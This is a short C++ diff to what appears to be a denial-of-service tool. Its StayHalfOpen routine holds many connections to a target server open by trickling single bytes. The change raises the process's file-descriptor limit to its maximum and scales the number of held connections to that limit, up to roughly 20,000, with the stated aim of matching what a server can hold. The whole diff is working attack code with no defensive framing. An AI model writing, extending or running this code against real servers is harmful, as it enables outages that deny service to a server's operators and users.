@@ -1,3 +1,5 @@
+#include <sys/resource.h>
+
 #include <algorithm>
 #include <deque>
 #include <iterator>
@@ -66,8 +68,14 @@ void SayNothing(const Aim& aim) {
 }
 
 void StayHalfOpen(const Aim& aim) {
+  rlimit files{};
+  getrlimit(RLIMIT_NOFILE, &files);
+  files.rlim_cur = files.rlim_max;
+  setrlimit(RLIMIT_NOFILE, &files);
+  // All that this process may open but some, and not many more than a server can hold.
+  const size_t count = std::clamp<size_t>(files.rlim_cur, 200, 20'100) - 100;
   bool sends_a_part = false;
-  KeepConnections(aim, 2000, [&](Client& client) {
+  KeepConnections(aim, count, [&](Client& client) {
     sends_a_part = !sends_a_part;
     if (sends_a_part) client.Send("\xff");
   });
